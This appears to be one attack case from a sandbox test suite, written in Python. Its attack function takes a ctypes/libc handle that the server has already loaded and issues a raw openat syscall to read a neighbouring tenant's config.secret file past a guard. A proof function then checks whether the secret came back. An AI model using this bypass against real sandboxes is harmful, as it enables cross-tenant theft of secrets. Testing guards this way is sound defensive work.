"""Call machine code through a function that the server has loaded before."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene

PHP_CONTROL = "careless_php_guard"
CONTROL = "careless_guard"


def attack(given: Given) -> object:
    import os
    import platform
    import sys

    given.must_be_guarded()
    linux = sys.modules.get("servers.kernel.syscalls")
    if linux is None:
        raise PermissionError("nothing of the server's is in the script's process")
    ctypes, libc = linux.ctypes, linux._libc
    openat = 257 if platform.machine() == "x86_64" else 56
    call = libc.syscall
    path = f"{given.neighbour}/config.secret".encode()
    descriptor = call(ctypes.c_long(openat), -100, path, os.O_RDONLY, 0)
    if descriptor < 0:
        raise PermissionError("the call was made, and refused by the kernel")
    return os.read(descriptor, 4096)


def proof(scene: Scene) -> str | None:
    return scene.brought_back(scene.secret, "the neighbour's secret")
